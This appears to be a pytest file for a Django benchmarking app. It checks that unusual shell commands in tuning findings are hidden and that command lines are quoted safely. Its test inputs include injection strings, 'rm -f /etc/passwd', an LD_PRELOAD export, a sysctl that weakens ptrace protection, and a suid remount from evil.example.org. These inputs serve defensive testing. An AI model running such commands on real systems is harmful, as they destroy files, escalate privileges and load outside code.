"""The lines of a finding that came as it stands, from an archive say, are shown only if they have a usual form."""

import shlex

import pytest
from django.conf import LazySettings
from django.test import Client
from django.urls import reverse

from apps.bench import lines
from apps.campaigns.models import Campaign
from apps.testbeds.models import Node
from apps.toolbox.attempts import DefinitionAttempt
from apps.tuning.models import Finding
from tests import factories as people
from tests.tuning.carrying import draft, store

USUAL = "mmchconfig pagepool=4294967296"
OTHERS = (
    *(
        "touch /root/x",
        f"{USUAL};touch x",
        f"{USUAL}\ntouch x",
        "sysctl -w 'net.core.rmem_max=$(touch x)'",
        "mpirun x",
    ),
    *("umount / && mount -o suid evil.example.org:/x /", "umount /usr && mount -o bind,suid /tmp/x /usr"),
    *("sysctl -w 'kernel.yama.ptrace_scope=0'", "sysctl -w 'vm.overcommit_memory=1'"),
    *("rm -f /etc/passwd", "export LD_PRELOAD=/x", "fio --exec_prerun=x", "tc qdisc del dev eth0 root|x", "# $(x)"),
)


@pytest.fixture
def finding(swept: Campaign, pair: list[Node]) -> Finding:
    return store(swept, pair, draft())


@pytest.mark.parametrize("text", OTHERS)
@pytest.mark.parametrize("name", ["change", "undo"])
def test_lines_of_another_form_are_left_out_and_it_is_said(
    client: Client,
    cast: people.Cast,
    finding: Finding,
    text: str,
    name: str,
) -> None:
    own = {"change": USUAL, "undo": USUAL, name: text}
    part = {**finding.details, **own, "parts": [], "evidence": []}
    rows = Finding.objects.filter(pk=finding.pk)
    rows.update(**own, details={**finding.details, **own, "parts": [part]})
    stored = rows.get()
    assert getattr(stored, name) == ""
    for record in (stored.details, *stored.details["parts"]):
        assert (record["change"], record["undo"]) == ("", "")
        assert lines.LEFT_OUT in [limit["msgid"] for limit in record["limits"]]
    page = people.signed_in(cast.oscar).get(f"/findings/{finding.pk}/").content.decode()
    answer = client.get(f"/api/v1/findings/{finding.pk}/", **people.bearer(cast.oscar)).content.decode()
    assert lines.LEFT_OUT in page
    assert text not in answer.replace("\\n", "\n")
    rows.update(change=USUAL, undo=USUAL, details={**finding.details, "change": USUAL, "undo": USUAL})
    assert (rows.get().change, rows.get().details["undo"]) == (USUAL, USUAL)
    assert USUAL in people.signed_in(cast.oscar).get(f"/findings/{finding.pk}/").content.decode()


def test_a_command_of_a_definition_is_shown_as_a_shell_takes_it() -> None:
    argv = ("fio", "--name=a b;touch x", "$(x)", "\nx")
    ((role, line),) = DefinitionAttempt([("client", argv)]).lines
    assert (role, tuple(shlex.split(line))) == ("client", argv)


def test_an_odd_address_is_one_word_to_the_shell(cast: people.Cast, pair: list[Node], settings: LazySettings) -> None:
    settings.PUBLIC_URL = "https://grid.example/a;touch x"
    page = people.signed_in(cast.alice).post(reverse("agents:enrol", args=[pair[0].pk])).content.decode()
    assert "--server &#x27;https://grid.example/a;touch x&#x27;" in page
